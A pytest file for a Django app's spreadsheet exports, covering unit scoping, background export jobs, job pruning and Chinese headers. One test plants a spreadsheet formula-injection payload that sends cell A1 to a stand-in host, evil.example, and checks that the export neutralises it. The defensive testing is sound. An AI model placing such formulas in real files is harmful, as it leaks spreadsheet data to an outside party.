"""The app's export screens: the fast progress table, scoping, and who may export what."""

import csv
import datetime
import io
from io import StringIO
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from reports.models import ProgressEntry, SpreadsheetJob
from reports.resources import ProgressEntryResource

from .conftest import export_file, problems, run_import


def sheet_of(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return openpyxl.load_workbook(io.BytesIO(content)).active


def rows_of(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_the_progress_export_holds_what_the_resource_exports(sdu_entry, jinan_entry, people, login):
    response = login(people.edu).get(reverse("export", args=["entries"]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = sheet_of(response)
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["H"].width >= 8
    library = openpyxl.load_workbook(
        io.BytesIO(export_file(ProgressEntryResource(user=people.edu), "xlsx"))
    ).active
    # The same values in the same columns; the headers are in the page's language, Chinese.
    assert rows_of(sheet)[1:] == rows_of(library)[1:]
    assert len(rows_of(sheet)) == 3
    assert rows_of(sheet)[0][:4] == ["发文单位代码", "文号", "单位代码", "单位名称"]


def test_formula_text_is_neutralised_and_numbers_stay_numbers(sdu_entry, people, login):
    ProgressEntry.objects.filter(pk=sdu_entry.pk).update(narrative='=HYPERLINK("x")')
    client = login(people.sdu_staff)
    header, row = rows_of(sheet_of(client.get(reverse("export", args=["entries"]))))
    cells = dict(zip(header, row, strict=True))
    assert cells["工作情况"] == '\'=HYPERLINK("x")'
    assert cells["参加人次"] == 320
    content = b"".join(
        client.get(reverse("export", args=["entries"]), {"format": "csv"}).streaming_content
    )
    assert content.startswith(b"\xef\xbb\xbf")
    assert "'=HYPERLINK" in content.decode("utf-8-sig")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_formula_text_in_the_completion_tables_headers_is_neutralised(
    sdu_entry, edu_directive, people, login, file_format
):
    """A requirement's title heads its columns: it is a cell like any other."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    edu_directive.requirements.filter(pk=sdu_entry.requirement_id).update(title=evil)
    response = login(people.edu).get(
        reverse("dashboard_export", args=[edu_directive.pk]), {"format": file_format}
    )

    if file_format == "csv":
        content = b"".join(response.streaming_content).decode("utf-8-sig")
        header = next(csv.reader(StringIO(content)))
    else:
        header = rows_of(sheet_of(response))[0]
    titled = [cell for cell in header if "HYPERLINK" in cell]
    assert titled, header
    assert all(cell.startswith("'=") for cell in titled), titled


def test_an_exported_progress_file_imports_back_unchanged(sdu_entry, people, login):
    for file_format in ("xlsx", "csv"):
        response = login(people.sdu_staff).get(
            reverse("export", args=["entries"]), {"format": file_format}
        )
        content = b"".join(response.streaming_content) if response.streaming else response.content
        outcome = run_import(
            ProgressEntryResource(user=people.sdu_staff), f"entries.{file_format}", content
        )
        assert problems(outcome) == []
        assert (outcome.new, outcome.updated, outcome.unchanged) == (0, 0, 1)


def test_exports_are_scoped_to_the_users_units(sdu_entry, jinan_entry, people, login):
    def units(user):
        sheet = sheet_of(login(user).get(reverse("export", args=["entries"])))
        return sorted(row[2] for row in rows_of(sheet)[1:])

    assert units(people.sdu_staff) == ["SDU"]
    assert units(people.jinan_staff) == ["JN-EDU"]
    assert units(people.edu) == ["JN-EDU", "SDU"]
    assert units(people.qingdao) == []


def test_a_big_export_is_written_in_the_background_and_downloaded(
    sdu_entry, jinan_entry, people, login, settings, client
):
    settings.EXPORT_BACKGROUND_ROWS = 1
    edu = login(people.edu)
    response = edu.get(reverse("export", args=["entries"]))
    job = SpreadsheetJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("export_job", args=[job.pk])
    # The tests run tasks at once: the file is there, every row counted.
    assert (job.direction, job.state, job.rows_total, job.rows_done) == ("export", "done", 2, 2)
    page = edu.get(reverse("export_job", args=[job.pk]))
    assert reverse("export_download", args=[job.pk]) in page.content.decode()
    assert edu.get(reverse("export_job_progress", args=[job.pk]))["HX-Refresh"] == "true"
    sheet = sheet_of(edu.get(reverse("export_download", args=[job.pk])))
    assert sorted(row[2] for row in rows_of(sheet)[1:]) == ["JN-EDU", "SDU"]
    assert job.file_name in edu.get(reverse("export_list")).content.decode()
    # Nobody else reaches the job or its file.
    other = login(people.sdu_supervisor)
    for name in ("export_job", "export_job_progress", "export_download"):
        assert other.get(reverse(name, args=[job.pk])).status_code == 404, name


def test_a_big_completion_table_keeps_its_directive_and_unit(
    edu_directive, sdu_entry, people, login, settings, tree
):
    settings.EXPORT_BACKGROUND_ROWS = 0
    client = login(people.edu)
    response = client.get(
        reverse("dashboard_export", args=[edu_directive.pk]), {"unit": tree.sdu.pk, "format": "csv"}
    )
    job = SpreadsheetJob.objects.get()
    assert job.parameters == {"directive": edu_directive.pk, "unit": tree.sdu.pk, "format": "csv"}
    assert job.file_name.endswith(".csv")
    content = b"".join(client.get(reverse("export_download", args=[job.pk])).streaming_content)
    assert content.decode("utf-8-sig").splitlines()[1].startswith("SDU,山东大学工会")
    assert response.status_code == 302
    assert (
        client.get(reverse("dashboard_export", args=[edu_directive.pk]), {"unit": "x"}).status_code
        == 404
    )


def test_old_jobs_are_pruned_with_their_files_and_stuck_ones_failed(
    sdu_entry, people, login, settings
):
    settings.EXPORT_BACKGROUND_ROWS = 0
    client = login(people.sdu_staff)
    client.get(reverse("export", args=["entries"]))
    client.get(reverse("export", args=["entries"]))
    old, recent = SpreadsheetJob.objects.order_by("pk")
    old_file = Path(old.output.path)
    SpreadsheetJob.objects.filter(pk=old.pk).update(
        created_at=timezone.now() - datetime.timedelta(days=31)
    )
    stuck = SpreadsheetJob.objects.create(
        user=people.sdu_staff, direction="export", kind="entries", file_name="x.xlsx"
    )
    SpreadsheetJob.objects.filter(pk=stuck.pk).update(
        state="running", created_at=timezone.now() - datetime.timedelta(hours=7)
    )
    out = StringIO()
    call_command("prune_spreadsheet_jobs", stdout=out)
    assert list(SpreadsheetJob.objects.order_by("pk").values_list("pk", "state")) == [
        (recent.pk, "done"),
        (stuck.pk, "failed"),
    ]
    assert not old_file.exists()
    assert Path(recent.output.path).exists()


def test_the_exports_page_names_each_table_in_chinese(tree, people, login):
    page = login(people.edu).get(reverse("export_list")).content.decode()
    for name in ("进展记录", "情况报告", "文件及工作要求", "组织架构"):
        assert name in page
    assert "Directives and requirements" not in page
